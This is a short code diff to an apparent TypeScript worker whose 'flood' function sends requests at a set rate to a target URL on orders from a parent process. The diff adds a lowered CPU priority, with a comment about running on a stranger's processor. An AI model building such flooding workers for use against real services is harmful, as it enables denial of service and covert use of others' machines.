@@ -4,6 +4,7 @@
  */
 import { randomUUID } from "node:crypto";
 import { connect, type Socket } from "node:net";
+import { setPriority } from "node:os";
 import { Agent } from "undici";
 
 interface Order {
@@ -72,6 +73,8 @@ async function flood({ url, endpoint, rate, seconds, held }: Order): Promise<obj
   return { sent: total, statuses };
 }
 
+// A stranger's processor is not ours: what it computes here is not to be missing where the true events are worked on.
+setPriority(15);
 process.on("message", (order: Order) => {
   flood(order).then(
     (figures) => process.send?.(figures),
